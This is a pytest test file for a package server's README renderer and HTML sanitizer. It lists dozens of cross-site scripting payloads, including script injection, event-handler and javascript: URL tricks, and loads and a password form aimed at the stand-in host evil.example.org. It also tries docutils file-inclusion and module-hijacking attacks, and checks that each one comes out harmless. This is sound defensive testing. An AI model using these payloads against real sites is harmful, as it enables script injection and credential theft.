"""Descriptions for people: what they look like, that no text does harm, and that no text takes for ever."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from importlib.metadata import metadata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from readme_renderer.clean import clean
from selectolax.lexbor import LexborHTMLParser

from frumious.server.web import description
from frumious.server.web.description import Description, Markup, markup_of, plain, render
from frumious.server.web.rendering import MOST_HTML, Unrenderable, convert
from frumious.server.web.sanitizing import only_allowed, sanitize
from support.harmless import assert_harmless

ONLY_HERE = "what only this machine knows"
some = settings(deadline=None, max_examples=80)


def markdown(text: str, *, images: bool = False) -> str:
    return convert(text, Markup.GFM, remote_images=images)


def rest(text: str, *, images: bool = False) -> str:
    return convert(text, Markup.REST, remote_images=images)


def seen(html: str) -> str:
    """Return the text that a person sees, white space as one blank."""
    body = LexborHTMLParser(html).body
    return " ".join(body.text().split()) if body else ""


def links(html: str) -> list[tuple[str, str]]:
    """Return words and address of every link."""
    return [
        (" ".join(a.text().split()), a.attributes["href"] or "")
        for a in LexborHTMLParser(html).css("a[href]")
    ]


# ------------------------------------------------------- what it is written in

TYPES = [
    (None, Markup.REST),
    ("", Markup.REST),
    ("UNKNOWN", Markup.REST),
    ("text/x-rst", Markup.REST),
    ("text/x-rst; charset=UTF-8", Markup.REST),
    ("Text/X-RST", Markup.REST),
    ("text/markdown", Markup.GFM),
    ("text/markdown; charset=UTF-8; variant=GFM", Markup.GFM),
    ("text/markdown;variant=CommonMark", Markup.COMMONMARK),
    ('text/markdown; Variant="commonmark"', Markup.COMMONMARK),
    ("text/markdown; variant=Original", Markup.GFM),
    ("text/markdown; variant", Markup.GFM),
    ("text/plain", Markup.PLAIN),
    ("text/html", Markup.PLAIN),
    ("text/asciidoc; variant=GFM", Markup.PLAIN),
    (";;;", Markup.REST),
    ("text/markdown" + ";a" * 5000, Markup.PLAIN),
]


@pytest.mark.parametrize(("content_type", "markup"), TYPES)
def test_the_content_type_says_what_it_is(content_type, markup):
    """Core metadata, Description-Content-Type: absent is reStructuredText, what is not known is text."""
    assert markup_of(content_type) is markup


@given(st.text())
def test_any_content_type_is_one_of_them(content_type):
    assert markup_of(content_type) in Markup


# ----------------------------------------------------------------- Markdown


def test_headings_stand_below_the_one_of_the_page():
    html = markdown("# One\n\n## Two\n\n###### Six\n\n[up](#one)")

    page = LexborHTMLParser(html)
    assert [(node.tag, node.text()) for node in page.css("h1, h2, h3, h4, h5, h6")] == [
        ("h2", "One"),
        ("h3", "Two"),
        ("h6", "Six"),
    ]
    assert links(html) == [("up", "#user-content-one")]
    assert page.css_first("h2").id == "user-content-one"


def test_a_table_can_be_scrolled_by_itself():
    html = markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")

    page = LexborHTMLParser(html)
    assert page.css_first("div.scroll[tabindex='0'] > table") is not None
    assert [(cell.text(), cell.attributes.get("align")) for cell in page.css("td")] == [
        ("1", "center"),
        ("2", "right"),
    ]


def test_tasks_are_shown_without_a_form():
    assert seen(markdown("- [x] done\n- [ ] open\n")) == "☑ done ☐ open"


def test_code_is_highlighted_by_classes():
    page = LexborHTMLParser(markdown("```python\nimport six  # <b>\n```\n\n```nonsense\na < b\n```\n"))

    assert [block.text() for block in page.css("pre")] == ["import six  # <b>\n", "a < b\n"]
    assert page.css_first("pre .kn").text() == "import"
    assert page.css("[style], [lang]") == []


def test_footnotes_lead_there_and_back():
    html = markdown("Text[^n].\n\n[^n]: The note.\n")

    page = LexborHTMLParser(html)
    assert links(html) == [("1", "#user-content-fn-n"), ("↩", "#user-content-fnref-n")]
    assert page.css_first("li#user-content-fn-n").text().split() == ["The", "note.", "↩"]
    assert page.css_first("#user-content-fnref-n") is not None


def test_what_github_adds_is_there_unless_it_is_plain_commonmark():
    text = "~~old~~ www.example.org\n\n> [!WARNING]\n> careful\n"

    page = LexborHTMLParser(markdown(text))
    assert page.css_first("del").text() == "old"
    assert page.css_first("a").attributes["href"] == "http://www.example.org"
    assert page.css_first("div.admonition.warning > p.admonition-title").text() == "Warning"
    assert "~~old~~" in convert(text, Markup.COMMONMARK, remote_images=False)


def test_html_in_markdown_is_kept_as_far_as_it_is_harmless():
    html = markdown(
        '<h1 align="center">Name</h1>\n<details open><summary>More</summary>\n\n*x* <kbd>q</kbd>\n\n</details>\n'
        '<p align="center" style="color:red" onclick="x()" class="banner note">y</p>\n'
    )

    page = LexborHTMLParser(html)
    assert page.css_first("h2[align=center]").text() == "Name"
    assert page.css_first("details > summary").text() == "More"
    assert page.css_first("details kbd").text() == "q"
    assert page.css_first("p[align=center]").attributes == {"align": "center", "class": "note"}


# --------------------------------------------------------------------- reST

REST = """
Title
=====

.. image:: https://img.example.org/build.svg
   :alt: Build
   :target: https://ci.example.org/

Text with ``code``, a `link <https://example.org/>`_, a note [1]_ and "quotes".

.. note:: Careful.

.. code-block:: python

   import six

Part
----

| one
| two

:field: value

.. list-table::
   :header-rows: 1

   * - a
     - b
   * - c
     - d

.. [1] The note.
"""


def test_restructured_text_is_rendered_with_its_directives():
    html = rest(REST)

    page = LexborHTMLParser(html)
    assert [(node.tag, node.text()) for node in page.css("h2, h3")] == [("h2", "Title"), ("h3", "Part")]
    assert page.css_first("p code").text() == "code"
    assert page.css_first("div.admonition.note").text().split() == ["Note", "Careful."]
    assert page.css_first("pre .kn").text() == "import"
    assert [line.text() for line in page.css("div.line-block > div.line")] == ["one", "two"]
    assert [cell.text().strip() for cell in page.css("div.scroll th, div.scroll td")] == ["a", "b", "c", "d"]
    assert ("Build", "https://ci.example.org/") in links(html)
    assert ("[1]", "#user-content-1") in links(html)
    assert page.css_first("div#user-content-1.footnote > p").text() == "The note."
    assert_harmless(html)


BROKEN = [
    "Title\n==\n\n`open",
    "|missing| x\n",
    ".. nonsense::\n\n   x\n",
    ":nonsense:`x`\n",
    "target_\n",
    ".. |a| replace:: |b|\n.. |b| replace:: |a|\n\n|a|\n",
    "*a " * 5000,
    "\n".join(" " * depth + "- a\n" for depth in range(300)),
]


@pytest.mark.parametrize("text", BROKEN, ids=range(len(BROKEN)))
def test_broken_restructured_text_is_no_description(text):
    """Nothing is said of what is wrong with it: a message of docutils would name files."""
    with pytest.raises((Unrenderable, RecursionError)):
        rest(text)


def test_no_file_of_the_machine_is_shown(tmp_path, monkeypatch):
    """Whatever a text asks for, and whatever somebody here has set for docutils."""
    (tmp_path / "secret").write_text(ONLY_HERE)
    (tmp_path / "docutils.conf").write_text(
        "[general]\nfile_insertion_enabled: yes\nraw_enabled: yes\nhalt_level: 5\n"
    )
    monkeypatch.setenv("DOCUTILSCONFIG", str(tmp_path / "docutils.conf"))
    path = tmp_path / "secret"

    for text in (
        f".. include:: {path}\n",
        f".. literalinclude:: {path}\n",
        f".. raw:: html\n   :file: {path}\n",
        f".. csv-table::\n   :file: {path}\n",
        f".. csv-table::\n   :url: {path.as_uri()}\n",
        f".. code::\n   :file: {path}\n",
        ".. raw:: html\n\n   <b>raw</b>\n",
        ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<b>raw</b>`\n",
    ):
        shown = render(text, "text/x-rst")

        assert ONLY_HERE not in shown
        assert "<b>" not in shown


# -------------------------------------------------------------- real ones


@pytest.mark.parametrize("name", ["docutils", "hypothesis", "mypy", "packaging", "pytest", "rich", "ruff"])
def test_a_real_description_is_rendered(name):
    """Of what these tests need in any case: tables, badges, HTML, directives."""
    said = metadata(name)
    text = said["Description"] or said.get_payload()
    markup = markup_of(said["Description-Content-Type"])

    for images in (False, True):
        html = convert(text, markup, remote_images=images)

        assert_harmless(html, images=images)
        assert len(seen(html)) > len(text) / 4
        assert LexborHTMLParser(html).css("h2, h3")


# ------------------------------------------------------------------- images


def test_an_image_is_a_link_with_its_words():
    html = markdown(
        "![Logo](https://img.example.org/logo.png)\n\n![](https://img.example.org/a%20b/shot.png)\n\n"
        '![](https://img.example.org)\n\n<img src="https://img.example.org/x.png" alt=" ">\n\n'
        "[![Inside](https://img.example.org/i.png)](docs/)\n"
    )

    assert links(html) == [
        ("Logo", "https://img.example.org/logo.png"),
        ("shot.png", "https://img.example.org/a%20b/shot.png"),
        ("img.example.org", "https://img.example.org"),
        ("x.png", "https://img.example.org/x.png"),
        ("Inside", "https://img.example.org/i.png"),
    ]
    assert all(a.attributes["class"] == "image" for a in LexborHTMLParser(html).css("a"))


def test_a_row_of_badges_is_a_row_of_links():
    html = markdown(
        "[![Build](https://img.example.org/build.svg)](https://ci.example.org/)\n"
        "[![Docs](https://img.example.org/docs.svg)](https://docs.example.org/) ![PyPI](https://img.example.org/v.svg)\n"
    )

    assert links(html) == [
        ("Build", "https://ci.example.org/"),
        ("Docs", "https://docs.example.org/"),
        ("PyPI", "https://img.example.org/v.svg"),
    ]
    assert [node.text() for node in LexborHTMLParser(html).css("p .image")] == ["Build", "Docs", "PyPI"]
    assert seen(html) == "Build Docs PyPI"


def test_an_image_of_the_sources_is_its_words():
    html = markdown("![The logo](docs/logo.png) ![](/static/x.svg) ![d](data:image/png;base64,AAAA)")

    assert links(html) == []
    assert seen(html) == "The logo x.svg d"


def test_images_are_loaded_when_they_are_allowed_and_from_elsewhere_only():
    text = (
        "![Logo](https://img.example.org/logo.png) ![here](docs/logo.png) ![d](data:image/png;base64,AAAA)\n\n"
        '<img src="https://img.example.org/x.png" width="100%" height="999999" srcset="https://img.example.org/2x.png 2x" '
        'onerror="x()" style="position:fixed">\n\n<picture><source srcset="https://img.example.org/s.png">'
        '<img src="http://img.example.org/p.png" alt="P"></picture>\n'
    )

    html = markdown(text, images=True)

    assert [
        (
            img.attributes["src"],
            img.attributes["alt"],
            img.attributes.get("width"),
            img.attributes.get("height"),
        )
        for img in LexborHTMLParser(html).css("img")
    ] == [
        ("https://img.example.org/logo.png", "Logo", None, None),
        ("https://img.example.org/x.png", "x.png", "100%", None),
        ("http://img.example.org/p.png", "P", None, None),
    ]
    assert "img.example.org/2x.png" not in html
    assert "img.example.org/s.png" not in html
    assert_harmless(html, images=True)


def test_links_to_nowhere_are_words():
    """What was relative to a repository would lead into this server."""
    html = markdown(
        "[guide](docs/guide.md) [root](/simple/) [host](//evil.example.org/) [me](mailto:a@example.org)"
    )

    assert links(html) == [("me", "mailto:a@example.org")]
    assert seen(html) == "guide root host me"


# ------------------------------------------------------------------ hostile

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>body{background:url(https://evil.example.org/)}</style>",
    '<link rel="stylesheet" href="https://evil.example.org/x.css">',
    '<base href="https://evil.example.org/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example.org/">',
    "<iframe src=https://evil.example.org/></iframe>",
    "<object data=https://evil.example.org/></object><embed src=https://evil.example.org/>",
    '<form action="https://evil.example.org/"><input name=password type=password><button>x</button></form>',
    '<input type="image" src="https://evil.example.org/x.png">',
    "<textarea></div></main><script>alert(1)</script></textarea>",
    "<select><option>x</select>",
    "<svg onload=alert(1)><script>alert(1)</script><use href=https://evil.example.org/#x /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="https://img.example.org/a.png" onload="alert(1)" srcset="https://evil.example.org/b 2x">',
    "<image src=https://evil.example.org/x.png>",
    "<video src=https://evil.example.org/x poster=https://evil.example.org/y autoplay></video>",
    "<audio src=https://evil.example.org/x autoplay></audio><track src=https://evil.example.org/>",
    "<picture><source srcset=https://evil.example.org/x><img src=x></picture>",
    "<table background=https://evil.example.org/x><td background=https://evil.example.org/x>x</table>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1) style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a><a href='blob:https://x/y'>z</a>",
    "<a href='https:evil'>x</a><a href='https:///evil'>y</a><a href='http:\\\\evil'>z</a><a href='https://['>w</a>",
    "<a href='\\\\evil.example.org'>x</a><a href='/\\evil.example.org'>y</a><a href='//evil.example.org'>z</a>",
    "<a href='https://e.example.org/' ping='https://evil.example.org/' target=_top download formaction=x>x</a>",
    "<a href='https://e.example.org/' rel='opener'>x</a>",
    "[x](javascript:alert(1)) [y](data:text/html,x) <javascript:alert(1)> [z](vbscript:x)",
    "[x](&#106;avascript:alert(1)) [y](java\\\nscript:x) ![z](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x] [x][x] ![x][x]",
    '[x](https://e.example.org/ "\\" onmouseover=\\"alert(1)")',
    '![" onerror="alert(1)](https://img.example.org/a.png)',
    "![</span><script>alert(1)</script>](https://img.example.org/a.png)",
    "![&lt;script&gt;alert(1)&lt;/script&gt;](https://img.example.org/&quot;&gt;&lt;script&gt;.png)",
    '```"><script>alert(1)</script>\nx\n```',
    "```python' onclick='alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "</div></main></body></html><script>alert(1)</script>",
    "</pre></p></td></table></div><div id=after>",
    "<div><div><b><i><p>never closed",
    "<!-- --><!--><script>alert(1)</script>-->",
    "<!-- <p id=here> --!><img src=x onerror=alert(1)>",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]><!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><slot name=x></slot>",
    "<xmp><script>alert(1)</script></xmp><plaintext><b>x",
    "<title></title><script>alert(1)</script>",
    "<p id=after>x</p><a name=search>y</a><a id=here>z</a><img name=body id=cookie>",
    "# after\n\n# after\n\n<h1 id=user-content-after>x</h1><b id=user-content-after>y</b>",
    "<p id='user-content-\"><script>'>x</p><p id='a b'>y</p>",
    "<p class='nav header is-quarantined'>x</p><span class='k nav'>y</span>",
    "<p tabindex=1 accesskey=s contenteditable autofocus hidden dir=rtl lang=xx role=alert aria-live=x>x</p>",
    "<td colspan=99999999 rowspan=99999999>x</td><table><td colspan=99999999>x</table>",
    "<ol start=99999999999999999999><li value=-1>x</ol>",
    "<details ontoggle=alert(1) open><summary onclick=x>x</summary></details>",
    "<dialog open>x</dialog><menu><marquee onstart=alert(1)>x</marquee></menu>",
    "<custom-element onclick=x>x</custom-element><a-b is=c>y</a-b>",
    "<a><table><a href=https://x.example.org><td><a>x</a></table></a>",
    "<b><p><a href=https://x.example.org id=q></b><i>y</p></a>z",
    "<p>a<table>b<tr>c<td><ul><li></table><li>d",
    "\x00<scr\x00ipt>alert(1)</script>\x0b\x0c\x1b[31m\u202e\ufeff",
    "&#0;&#x1F;&#xD800;&#x110000;&#128;&lt;script&gt;",
    "<" * 500 + ">" * 500,
    "[" * 500 + "](" * 500,
    "> " * 300 + "x",
    "<div>" * 500 + "x",
]  # fmt: skip


@pytest.mark.parametrize("images", [False, True])
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_markdown_does_nothing(text, images):
    """Also between other text, where it is read otherwise."""
    for variant in (
        text,
        f"a\n\n{text}\n\nb",
        f"a *b* {text} c",
        f"- {text}",
        f"| {text} |\n|---|\n| {text} |",
    ):
        assert_harmless(markdown(variant, images=images), images=images)


HOSTILE_REST = [
    "`x <javascript:alert(1)>`_\n",
    "`x <data:text/html,x>`__ x_ y_\n\n.. _x: javascript:alert(1)\n.. _y: vbscript:x\n",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n",
    '.. image:: https://img.example.org/x.svg\n   :alt: "><script>alert(1)</script>\n   :width: 99999999px\n',
    ".. image:: https://img.example.org/x.swf\n",
    ".. image:: https://img.example.org/x.mp4\n",
    ".. figure:: docs/x.png\n   :figclass: nav\n   :align: left\n\n   <script>alert(1)</script>\n",
    "<script>alert(1)</script>\n",
    "``<script>alert(1)</script>``\n\n::\n\n   </pre><script>alert(1)</script>\n",
    ".. class:: nav is-quarantined\n\nx\n",
    ".. container:: nav\n   :name: after\n\n   x\n",
    ".. _after:\n\nafter\n=====\n\n`after`_\n",
    ".. role:: nav\n\n:nav:`x`\n",
    ".. meta::\n   :http-equiv=refresh: 0;url=https://evil.example.org/\n\nx\n",
    ".. title:: <script>\n\nx\n",
    ".. header:: x\n.. footer:: y\n\nz\n",
    ".. math::\n\n   \\href{javascript:alert(1)}{x}</div><script>alert(1)</script>\n",
    ".. parsed-literal::\n\n   `x <javascript:x>`_ </pre>\n",
    ".. code:: html\n   :class: nav\n   :number-lines:\n\n   <script>alert(1)</script>\n",
    ".. contents::\n   :backlinks: entry\n\nA\n=\n\nB\n-\n",
    ".. sidebar:: <b>\n\n   x\n\n.. topic:: <i>\n\n   y\n",
    ".. admonition:: <b>\n   :class: nav\n\n   x\n",
    ".. default-role:: math\n\n`</span><script>`\n",
    ".. |x| unicode:: 0x3C script 0x3E\n\n|x|\n",
    ".. list-table::\n   :widths: 1 999\n   :width: 99999px\n\n   * - a\n     - b\n",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE_REST, ids=range(len(HOSTILE_REST)))
def test_hostile_restructured_text_does_nothing(text):
    for images in (False, True):
        try:
            html = rest(text, images=images)
        except Unrenderable:
            html = plain(text)
        assert_harmless(html, images=images)


PIECES = st.one_of(
    st.sampled_from([*HOSTILE[:-4], *HOSTILE_REST]),
    st.sampled_from(
        [
            "<a ",
            "<a href=",
            "<img src=",
            "<p ",
            "<b>",
            "</b>",
            "<table>",
            "<td>",
            "</table>",
            "<li>",
            "</p>",
            "<pre>",
            "<!--",
            "-->",
        ]
    ),
    st.sampled_from(
        [
            "javascript:",
            "data:",
            "https://",
            "//",
            "\\",
            "&#x3a;",
            "&colon;",
            "&lt;",
            "&quot;",
            "onclick=x",
            "style=x",
            "id=after",
        ]
    ),
    st.sampled_from(
        [
            "\n",
            "\n\n",
            "    ",
            "\t",
            "- ",
            "1. ",
            "> ",
            "# ",
            "`",
            "```",
            "*",
            "_",
            "~~",
            "[",
            "](",
            ")",
            "![",
            "|",
            "|-|",
            "[^1]",
            ":",
        ]
    ),
    st.sampled_from(
        [
            "::",
            ".. ",
            ".. image:: ",
            ":alt: ",
            ":target: ",
            "`x <",
            ">`_",
            "|x|",
            "====",
            "'",
            '"',
            "=",
            ">",
            "<",
            "/>",
        ]
    ),
    st.text(max_size=6),
)
TEXTS = st.lists(PIECES, max_size=25).map("".join)


@some
@given(TEXTS, st.booleans())
def test_any_markdown_is_harmless(text, images):
    try:
        html = markdown(text, images=images)
    except Unrenderable:  # nothing in it but blanks
        return

    assert_harmless(html, images=images)
    assert only_allowed(html, remote_images=images) == html


@some
@given(TEXTS, st.booleans())
def test_any_restructured_text_is_harmless(text, images):
    try:
        html = rest(text, images=images)
    except Exception:  # noqa: BLE001 - what docutils does not stand is told apart nowhere: it is shown as text
        html = plain(text)

    assert_harmless(html, images=images)


@some
@given(TEXTS, st.booleans())
def test_any_html_is_harmless(text, images):
    cleaned = clean(text)

    assert cleaned is not None
    assert_harmless(sanitize(cleaned, remote_images=images), images=images)


@given(st.text() | TEXTS)
def test_plain_text_is_shown_as_it_is(text):
    html = plain(text)

    node = LexborHTMLParser(html).css_first("pre.plain")
    assert_harmless(html)
    printable = description._UNPRINTABLE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
    assert node.text() == printable.removeprefix(
        "\n"
    )  # a browser drops the first line of <pre> when it is empty


# --------------------------------------------------------------- the process


def test_a_description_comes_from_the_helper():
    text = "# Six\n\n![Logo](https://img.example.org/logo.png) 漢字 \ud800 \x00\n"

    shown = render(text, "text/markdown; variant=GFM")
    with_images = render(text, "text/markdown", remote_images=True)

    assert isinstance(shown, Description)
    assert (
        shown.__html__() == shown == markdown("# Six\n\n![Logo](https://img.example.org/logo.png) 漢字  \n")
    )
    assert (shown.is_cut, shown.as_text) == (False, False)
    assert '<img src="https://img.example.org/logo.png"' in with_images
    assert render(REST, None) == rest(REST)


def test_what_cannot_be_rendered_is_shown_as_text():
    shown = render("Title\n==\n\n`open <b>", None)

    assert shown == '<pre class="plain">Title\n==\n\n`open &lt;b&gt;</pre>'
    assert (shown.is_cut, shown.as_text) == (False, True)


@pytest.mark.parametrize("content_type", ["text/plain", "text/html"])
def test_text_is_text_and_no_failure(content_type):
    shown = render("# <b>", content_type)

    assert (shown, shown.as_text) == ('<pre class="plain"># &lt;b&gt;</pre>', False)


@pytest.mark.parametrize("content_type", [None, "text/markdown", "text/plain"])
def test_nothing_is_nothing(content_type):
    shown = render(" \n\t\n", content_type)

    assert (shown, shown.is_cut, shown.as_text) == ("", False, False)


def test_a_long_description_is_cut_at_the_end_of_a_line():
    line = "word " * 20 + "\n"
    shown = render(line * 10_000, "text/plain")

    assert shown.is_cut
    assert shown.endswith('word </pre><p class="cut">…</p>')
    assert shown.count("word") == description.MOST_CHARACTERS // len(line) * 20
    assert render("x" * 2_000_000, "text/plain").count("x") == description.MOST_CHARACTERS
    assert_harmless(shown)


def ends(text: str) -> int:
    """Return how the helper ends with some Markdown, with no limit around it that it does not set itself."""
    command = [sys.executable, "-P", "-m", "frumious.server.web.rendering", "GFM"]
    return subprocess.run(
        command, input=text.encode(), capture_output=True, check=False, timeout=120
    ).returncode


OUT_OF_TIME = {-signal.SIGXCPU, -signal.SIGKILL}


def test_what_takes_too_long_is_ended():
    """The sanitizer looks for the beginning of each paragraph in all that is open: 17 s, where 5 are allowed."""
    assert ends("<div>" * 50_000 + "</p>" * 60_000) in OUT_OF_TIME


def test_what_takes_too_much_memory_is_shown_as_text():
    """Cells of a table that nobody wrote, and that stand there nevertheless: gigabytes."""
    text = "|" + "a|" * 40_000 + "\n|" + "-|" * 40_000 + "\n" + "|a|\n" * 60_000

    assert ends(text) not in OUT_OF_TIME | {0}
    shown = render(text, "text/markdown")
    assert shown.as_text
    assert_harmless(shown)


def test_what_comes_to_too_much_is_no_description():
    """A few characters that stand for many: 64 thousand references to one note."""
    with pytest.raises(Unrenderable):
        markdown("[^a]: b\n\n" + "[^a]" * (MOST_HTML // 64))


def test_without_a_helper_there_is_still_the_text(monkeypatch, tmp_path):
    """No process can be started, or the libraries are not there."""
    for program in (tmp_path / "absent", "/bin/false"):
        monkeypatch.setattr(sys, "executable", str(program))

        shown = render("# Six", "text/markdown")

        assert (shown, shown.as_text) == ('<pre class="plain"># Six</pre>', True)


def test_nothing_is_imported_before_a_description_is_asked_for():
    code = (
        "import sys; from frumious.server.web import description as d; d.render('# x', 'text/markdown');"
        "print(sorted({'readme_renderer', 'nh3', 'comrak', 'docutils', 'pygments'} & set(sys.modules)))"
    )

    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )

    assert done.stdout.strip() == "[]"


def test_where_the_server_was_started_has_no_say(tmp_path):
    """A module of that name in the working directory would run with the server's rights."""
    (tmp_path / "readme_renderer.py").write_text("raise SystemExit('run from the working directory')\n")
    (tmp_path / "docutils.conf").write_text("[general]\nraw_enabled: yes\n")
    code = (
        "import sys; sys.path = [p for p in sys.path if p];"
        "from frumious.server.web.description import render;"
        "print(render('# x', 'text/markdown').as_text, render('.. raw:: html\\n\\n   <b>x</b>\\n', None).as_text)"
    )

    done = subprocess.run(
        [sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True, check=True, timeout=60, env=dict(os.environ)
    )  # fmt: skip

    assert done.stdout.split() == ["False", "True"]
